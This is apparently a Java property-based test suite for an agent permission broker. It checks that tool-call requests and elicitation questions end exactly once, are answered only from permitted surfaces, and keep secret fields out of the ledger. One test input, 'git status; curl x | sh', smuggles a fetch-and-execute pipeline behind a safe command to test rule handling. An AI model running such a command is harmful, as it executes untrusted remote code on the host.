package io.switchboard.permission;

import static io.switchboard.testkit.PermissionHarness.await;

import io.switchboard.bus.Addresses;
import io.switchboard.bus.ErrorCode;
import io.switchboard.testkit.PermissionHarness;
import io.vertx.core.Future;
import io.vertx.core.Vertx;
import io.vertx.core.eventbus.ReplyException;
import io.vertx.core.json.JsonObject;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.TimeUnit;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.ShrinkingMode;
import net.jqwik.api.lifecycle.AfterProperty;
import net.jqwik.api.lifecycle.BeforeProperty;

/**
 * The permission invariant over generated histories. Each history interleaves registrations,
 * answers (right surface, wrong surface, bad option, doubles, unknown ids), surface closes,
 * session cancels, agent exits, an agent's withdrawals and crash-restarts, in batches whose messages are in flight
 * together; it ends with a graceful shutdown or a crash-restart. Then, for every request:
 * it ended exactly once (one ledger end state, one published end fact); nothing was answered
 * after it ended; no surface outside its set answered it; and the ledger agrees with what the
 * agent's promise and the answerers saw. Some requests are questions (ACP elicitation): answered
 * with their own options, a form's content valid or not; no rule answers them, and their secret
 * field reaches the agent alone, never the ledger.
 */
class PermissionInvariantProperties {
  static final List<String> SURFACES = List.of("web", "telegram:1", "telegram:2", "slack:C9");
  static final List<String> OPTIONS = List.of("allow", "always", "reject", "not-offered");
  /** A question's answers: a form (its content valid or not), its one choice, a decline, and one it never offered. */
  static final List<String> QUESTION_OPTIONS = List.of("accept", "accept:red", "decline", "allow");
  /** A question of one required choice and a secret field. */
  static final JsonObject QUESTION = Question.fromAgent(new JsonObject().put("mode", "form").put("message", "Which?")
      .put("requestedSchema", new JsonObject().put("properties", new JsonObject()
          .put("colour", new JsonObject().put("type", "string").put("enum", new io.vertx.core.json.JsonArray()
              .add("red").add("green")))
          .put("pin", new JsonObject().put("type", "string").put("writeOnly", true)))
          .put("required", new io.vertx.core.json.JsonArray().add("colour"))));
  /** What the agents ask to run: one the config allows, one it denies, one no rule knows, one chained. */
  static final List<String> COMMANDS = List.of("git status", "git push", "make build", "git status; curl x | sh");
  /** The config's rules in every history: safe commands allowed, pushing denied. */
  static final List<io.switchboard.rules.Rule> RULES = rules();

  private static List<io.switchboard.rules.Rule> rules() {
    List<io.switchboard.rules.Rule> rules = new ArrayList<>(io.switchboard.rules.Presets.of("safeCommands", List.of()));
    rules.add(io.switchboard.rules.RuleSpecs.fromConfig(new JsonObject().put("id", "no-push").put("effect", "deny")
        .put("command", "git push")));
    return rules;
  }

  sealed interface Step permits Register, Answer, AnswerUnknown, CloseSurface, CancelSession, AgentExit, Restart,
      Barrier, Revoke, Withdraw {}

  /** {@code command}: an index into COMMANDS, or COMMANDS.size() for a question. */
  record Register(int thread, int session, int surfaceMask, int command) implements Step {}

  /** The agent takes back one of the requests made so far ({@code $/cancel_request}). */
  record Withdraw(int request) implements Step {}

  /** With {@code grant}, an "always" from the web makes a thread grant (a rule the next request may meet). */
  record Answer(int request, int surface, int option, boolean grant) implements Step {}

  /** Takes back one of the grants made so far (none yet: nothing happens). */
  record Revoke(int grant) implements Step {}

  record AnswerUnknown() implements Step {}

  record CloseSurface(int surface) implements Step {}

  record CancelSession(int thread, int session) implements Step {}

  record AgentExit(int thread) implements Step {}

  record Restart() implements Step {}

  record Barrier() implements Step {}

  record History(List<Step> steps, boolean endWithShutdown) {}

  private Vertx vertx;
  private Path dir;
  private PermissionHarness rooms;
  private int history;

  @BeforeProperty
  void startRooms() throws IOException {
    dir = Files.createTempDirectory("sb-permission-props");
    vertx = Vertx.vertx();
    rooms = new PermissionHarness(vertx, dir.resolve("switchboard.db"));
    rooms.start();
    rooms.crashPermissionRoom(); // each history deploys its own
  }

  @AfterProperty
  void stopRooms() {
    rooms.close();
    await(vertx.close());
  }

  @Provide
  Arbitrary<History> histories() {
    Arbitrary<Step> register = Combinators.combine(Arbitraries.integers().between(0, 1),
        Arbitraries.integers().between(0, 1), Arbitraries.integers().between(0, 15),
        Arbitraries.integers().between(0, COMMANDS.size())).as(Register::new);
    Arbitrary<Step> answer = Combinators.combine(Arbitraries.integers().between(0, 7),
        Arbitraries.integers().between(0, 3), Arbitraries.integers().between(0, 3), Arbitraries.of(true, false))
        .as(Answer::new);
    Arbitrary<Step> step = Arbitraries.frequencyOf(
        net.jqwik.api.Tuple.of(6, register),
        net.jqwik.api.Tuple.of(8, answer),
        net.jqwik.api.Tuple.of(1, Arbitraries.just(new AnswerUnknown())),
        net.jqwik.api.Tuple.of(2, Arbitraries.integers().between(0, 3).map(CloseSurface::new)),
        net.jqwik.api.Tuple.of(1, Combinators.combine(Arbitraries.integers().between(0, 1),
            Arbitraries.integers().between(0, 1)).as(CancelSession::new)),
        net.jqwik.api.Tuple.of(1, Arbitraries.integers().between(0, 1).map(AgentExit::new)),
        net.jqwik.api.Tuple.of(1, Arbitraries.just(new Restart())),
        net.jqwik.api.Tuple.of(4, Arbitraries.just(new Barrier())),
        net.jqwik.api.Tuple.of(1, Arbitraries.integers().between(0, 3).map(Revoke::new)),
        net.jqwik.api.Tuple.of(1, Arbitraries.integers().between(0, 7).map(Withdraw::new)));
    return Combinators.combine(step.list().ofMinSize(1).ofMaxSize(30), Arbitraries.of(true, false))
        .as(History::new);
  }

  /**
   * As many histories as {@code jqwik.tries.default} says: 1,000 in every run
   * (src/test/resources/junit-platform.properties), 10,000 or more in the long run
   * ({@code -Djqwik.tries.default=10000}, docs/reliability.md).
   */
  @Property(shrinking = ShrinkingMode.BOUNDED)
  boolean everyRequestEndsExactlyOnceAndOnlyFromItsSurfaces(@ForAll("histories") History h) {
    new Run(h, "h" + (history++)).play();
    return true;
  }

  /** One history played against fresh permission rooms, then checked. */
  private final class Run {
    final History h;
    final String prefix;
    int batch;
    /** toolCallId -> what the test sent and saw. */
    final Map<String, Sent> sent = new LinkedHashMap<>();
    final List<String> known = new ArrayList<>();
    final List<Future<?>> inFlight = new ArrayList<>();
    final List<AnswerSent> answers = new ArrayList<>();
    /** "thread/session" and "thread" -> the batches in which that session was cancelled or that agent exited. */
    final Map<String, List<Integer>> cancelledIn = new HashMap<>();
    /** surface -> the batches in which it was closed. */
    final Map<String, List<Integer>> closedIn = new HashMap<>();
    /** requestId -> batch by the end of which it was seen ended. */
    final Map<String, Integer> seenEndedBy = new HashMap<>();
    /** toolCallId -> the batches in which the agent withdrew it. */
    final Map<String, List<Integer>> withdrawnIn = new HashMap<>();
    /** Grants made by winning "always" answers, in the order they were made. */
    final List<String> grants = new ArrayList<>();

    record Sent(String toolCallId, String thread, String session, Set<String> surfaces, int batch,
                Future<JsonObject> agent, String command) {}

    record AnswerSent(String requestId, String surface, String optionId, int batch, Future<JsonObject> reply) {}

    Run(History h, String prefix) {
      this.h = h;
      this.prefix = prefix;
    }

    void play() {
      rooms.shown.clear();
      rooms.ended.clear();
      rooms.factory = () -> new PermissionRoom(io.switchboard.config.Limits.ofThisJvm()).rules(RULES);
      rooms.startPermissionRoom();
      for (Step step : h.steps()) {
        apply(step);
      }
      quiesce();
      if (h.endWithShutdown()) {
        rooms.shutdown();
        rooms.crashPermissionRoom(); // already empty: undeploying now is a clean stop
      } else {
        rooms.restartPermissionRoom();
        quiesce();
        rooms.shutdown();
        rooms.crashPermissionRoom();
      }
      check();
    }

    void apply(Step step) {
      if (step instanceof Register r) {
        String toolCallId = prefix + "-tc" + sent.size();
        Set<String> surfaces = new HashSet<>();
        for (int i = 0; i < SURFACES.size(); i++) {
          if ((r.surfaceMask() & (1 << i)) != 0) {
            surfaces.add(SURFACES.get(i));
          }
        }
        String thread = prefix + "-t" + r.thread();
        String session = "s" + r.session();
        JsonObject request = PermissionHarness.request(thread, session, toolCallId, surfaces.toArray(String[]::new));
        boolean question = r.command() == COMMANDS.size();
        if (question) {
          request.put("toolCall", Question.toolCall(toolCallId, QUESTION)).put("options", Question.options(QUESTION));
        } else {
          request.getJsonObject("toolCall").put("kind", "execute")
              .put("rawInput", new JsonObject().put("command", COMMANDS.get(r.command())));
        }
        Future<JsonObject> agent = rooms.register(request);
        sent.put(toolCallId, new Sent(toolCallId, thread, session, surfaces, batch, agent,
            question ? "question" : COMMANDS.get(r.command())));
      } else if (step instanceof Answer a) {
        if (known.isEmpty()) {
          return;
        }
        int which = a.request() % known.size();
        String id = known.get(which);
        String surface = SURFACES.get(a.surface());
        boolean question = "question".equals(new ArrayList<>(sent.values()).get(which).command());
        String option = question ? QUESTION_OPTIONS.get(a.option()) : OPTIONS.get(a.option());
        // A question's form: with "grant" set, content the schema refuses (a colour it does not offer).
        Future<JsonObject> reply = question ? vertx.eventBus().<JsonObject>request(Addresses.PERMISSION_ANSWER,
                new JsonObject().put("requestId", id).put("optionId", option).put("surface", surface)
                    .put("user", "u" + a.surface()).put("content", option.equals("accept")
                        ? new JsonObject().put("colour", a.grant() ? "mars" : "green").put("pin", "4321") : null))
                .map(m -> m.body())
            : a.grant() && surface.equals("web")
            ? vertx.eventBus().<JsonObject>request(Addresses.PERMISSION_ANSWER, new JsonObject().put("requestId", id)
                .put("optionId", option).put("surface", surface).put("grant", new JsonObject().put("reach", "thread")
                    .put("life", "forever"))).map(m -> m.body())
            : rooms.answer(id, option, surface, "u" + a.surface());
        reply.onSuccess(r -> {
          JsonObject grant = r.getJsonObject("outcome", new JsonObject()).getJsonObject("grant");
          if (grant != null) {
            grants.add(grant.getString("ruleId"));
          }
        });
        answers.add(new AnswerSent(id, surface, option, batch, reply));
        inFlight.add(reply);
      } else if (step instanceof AnswerUnknown) {
        Future<JsonObject> reply = rooms.answer("pr_unknown" + batch, "allow", "web", null);
        answers.add(new AnswerSent("pr_unknown" + batch, "web", "allow", batch, reply));
        inFlight.add(reply);
      } else if (step instanceof CloseSurface c) {
        String surface = SURFACES.get(c.surface());
        closedIn.computeIfAbsent(surface, k -> new ArrayList<>()).add(batch);
        rooms.publish(Addresses.SURFACE_CLOSED, new JsonObject().put("surface", surface));
      } else if (step instanceof CancelSession c) {
        cancelledIn.computeIfAbsent(prefix + "-t" + c.thread() + "/s" + c.session(), k -> new ArrayList<>()).add(batch);
        rooms.publish(Addresses.SESSION_CANCELLED,
            new JsonObject().put("threadId", prefix + "-t" + c.thread()).put("sessionId", "s" + c.session()));
      } else if (step instanceof AgentExit e) {
        cancelledIn.computeIfAbsent(prefix + "-t" + e.thread(), k -> new ArrayList<>()).add(batch);
        rooms.publish(Addresses.AGENT_EXITED, new JsonObject().put("threadId", prefix + "-t" + e.thread()));
      } else if (step instanceof Revoke v) {
        if (!grants.isEmpty()) {
          inFlight.add(vertx.eventBus().request(Addresses.PERMISSION_RULES_REVOKE, new JsonObject()
              .put("ruleId", grants.get(v.grant() % grants.size())).put("by", "props")));
        }
      } else if (step instanceof Withdraw w) {
        if (!sent.isEmpty()) {
          Sent s = new ArrayList<>(sent.values()).get(w.request() % sent.size());
          withdrawnIn.computeIfAbsent(s.toolCallId(), k -> new ArrayList<>()).add(batch);
          rooms.publish(Addresses.PERMISSION_WITHDRAW, new JsonObject().put("threadId", s.thread())
              .put("toolCallId", s.toolCallId()));
        }
      } else if (step instanceof Restart) {
        quiesce();
        rooms.restartPermissionRoom();
        quiesce();
      } else {
        quiesce();
      }
    }

    /** Waits until every message sent so far has had its effect, then starts a new batch. */
    void quiesce() {
      for (Future<?> f : inFlight) {
        try {
          f.await(20, TimeUnit.SECONDS);
        } catch (Exception expectedForRefusals) {
          // refusals are checked later
        }
      }
      inFlight.clear();
      long deadline = System.nanoTime() + TimeUnit.SECONDS.toNanos(20);
      while (true) {
        JsonObject status = await(vertx.eventBus().<JsonObject>request(Addresses.PERMISSION_STATUS, new JsonObject()))
            .body();
        boolean allSeen = sent.keySet().stream().allMatch(rooms.idsByToolCall::containsKey);
        if (allSeen && status.getInteger("ending") == 0) {
          break;
        }
        if (System.nanoTime() > deadline) {
          throw new AssertionError("the permission room did not settle: " + status);
        }
        try {
          Thread.sleep(1); // the room settles in a few ms: asking again at once only burns a core
        } catch (InterruptedException e) {
          Thread.currentThread().interrupt();
          throw new AssertionError(e);
        }
      }
      known.clear();
      for (String toolCallId : sent.keySet()) {
        known.add(rooms.idsByToolCall.get(toolCallId));
      }
      for (JsonObject fact : rooms.ended) {
        seenEndedBy.putIfAbsent(fact.getString("requestId"), batch);
      }
      batch++;
    }

    void check() {
      // End facts travel to the recorder asynchronously (the voided ones come from a fresh room's start).
      PermissionHarness.waitFor(() -> sent.keySet().stream()
          .allMatch(tc -> !rooms.endedFacts(rooms.idsByToolCall.get(tc)).isEmpty()), "an end fact for every request");
      for (Sent s : sent.values()) {
        String id = rooms.idsByToolCall.get(s.toolCallId());
        String where = "request " + id + " (" + s + ") in " + h;
        JsonObject row = rooms.ledgerRow(id);
        require(row != null, "no ledger row for " + where);
        require(!"pending".equals(row.getString("state")), "still pending in the ledger: " + where);
        JsonObject ledgerOutcome = row.getJsonObject("outcome");

        List<JsonObject> facts = rooms.endedFacts(id);
        require(facts.size() == 1, facts.size() + " end facts for " + where);
        require(facts.get(0).getJsonObject("outcome").equals(ledgerOutcome),
            "the end fact " + facts.get(0) + " disagrees with the ledger " + ledgerOutcome + " for " + where);

        boolean voided = PermissionRoom.VOIDED_BY_RESTART.equals(ledgerOutcome.getString("reason"));
        boolean question = "question".equals(s.command());
        if (s.agent().isComplete()) {
          JsonObject heard = s.agent().succeeded() ? s.agent().result().getJsonObject("outcome").copy() : null;
          Object content = heard == null ? null : heard.remove("content");
          require(heard != null && heard.equals(ledgerOutcome),
              "the agent saw " + s.agent().result() + " but the ledger says " + ledgerOutcome + " for " + where);
          if (question && "accept".equals(ledgerOutcome.getString("kind"))) {
            // The agent has the whole answer; the ledger has it without the secret, and says so.
            JsonObject kept = ledgerOutcome.getJsonObject("answer", new JsonObject());
            require(content instanceof JsonObject c && "green".equals(c.getString("colour"))
                    == "4321".equals(c.getString("pin")) && c.getString("colour") != null,
                "the agent heard " + content + " for " + where);
            require(!kept.getJsonObject("content", new JsonObject()).containsKey("pin")
                && (!"4321".equals(((JsonObject) content).getString("pin"))
                    || kept.getJsonArray("hidden", new io.vertx.core.json.JsonArray()).contains("pin")),
                "the ledger kept " + kept + " for " + where);
          }
          require(!voided, "voided by restart yet the agent heard back: " + where);
        } else {
          require(voided, "the agent never heard back but the ledger says " + ledgerOutcome + " for " + where);
        }

        // A session cancel, agent exit or withdrawal after the registration ends it within that batch.
        for (int c : withdrawnIn.getOrDefault(s.toolCallId(), List.of())) {
          Integer endedBy = seenEndedBy.get(id);
          require(c <= s.batch() || (endedBy != null && endedBy <= c), "still pending after it was withdrawn in batch "
              + c + ": " + where);
        }
        for (String key : List.of(s.thread() + "/" + s.session(), s.thread())) {
          for (int c : cancelledIn.getOrDefault(key, List.of())) {
            Integer endedBy = seenEndedBy.get(id);
            require(c <= s.batch() || (endedBy != null && endedBy <= c),
                "still pending after its " + (key.contains("/") ? "session was cancelled" : "agent exited")
                    + " in batch " + c + ": " + where);
          }
        }

        List<AnswerSent> wins = answers.stream()
            .filter(a -> a.requestId().equals(id) && a.reply().succeeded()).toList();
        boolean byRule = "rule".equals(ledgerOutcome.getJsonObject("answeredBy", new JsonObject()).getString("surface"));
        boolean selected = "selected".equals(ledgerOutcome.getString("outcome")) && !byRule;
        require(wins.size() == (selected ? 1 : 0), wins.size() + " winning answers for " + where);
        require(!(question && byRule), "a rule answered a question: " + where);
        if (byRule) {
          // A rule answers with the once-kind option, or no: never an "always" the agent would keep.
          require(List.of("allow_once", "reject_once", "reject_always").contains(ledgerOutcome.getString("kind")),
              "a rule chose " + ledgerOutcome.getString("kind") + " for " + where);
          require(!COMMANDS.get(3).equals(s.command()), "a chained command was answered by a rule: " + where);
        }
        if (selected && wins.get(0).optionId().equals("always") && ledgerOutcome.getValue("grant") != null) {
          require("allow_once".equals(ledgerOutcome.getString("kind")),
              "an always kept as a grant answered the agent with " + ledgerOutcome.getString("kind") + ": " + where);
        }
        if (selected) {
          AnswerSent win = wins.get(0);
          require(win.reply().result().getJsonObject("outcome").equals(ledgerOutcome),
              "the winner saw another outcome than the ledger for " + where);
          // The web (the operator's console) may answer any pending request; a chat only its own.
          boolean operator = win.surface().equals(io.switchboard.permission.PermissionRoom.OPERATOR_SURFACE);
          require(operator || s.surfaces().contains(win.surface()), "answered from " + win.surface()
              + ", outside its set " + s.surfaces() + ": " + where);
          // A close that surely came after the registration and before the answer removes the surface.
          require(operator || closedIn.getOrDefault(win.surface(), List.of()).stream()
                  .noneMatch(c -> c > s.batch() && c < win.batch()),
              "answered from " + win.surface() + " after that surface closed: " + where);
          require(!win.optionId().equals("not-offered") && !(question && win.optionId().equals("allow")),
              "an option not offered won: " + where);
          Integer endedBy = seenEndedBy.get(id);
          require(endedBy == null || endedBy >= win.batch(), "answered after it ended: " + where);
        }
        for (AnswerSent a : answers) {
          if (a.requestId().equals(id) && a.reply().failed()) {
            ErrorCode code = ErrorCode.of(a.reply().cause());
            require(code != null && code != ErrorCode.UNKNOWN_REQUEST, "answer " + a + " failed with "
                + describe(a.reply().cause()) + " for " + where);
          }
        }
      }
      for (AnswerSent a : answers) {
        if (a.requestId().startsWith("pr_unknown")) {
          require(ErrorCode.of(a.reply().cause()) == ErrorCode.UNKNOWN_REQUEST, "an unknown id got "
              + a.reply() + " in " + h);
        }
      }
    }

    private String describe(Throwable t) {
      return t instanceof ReplyException re ? re.failureCode() + " " + re.getMessage() : String.valueOf(t);
    }
  }

  private static void require(boolean ok, String message) {
    if (!ok) {
      throw new AssertionError(message);
    }
  }
}
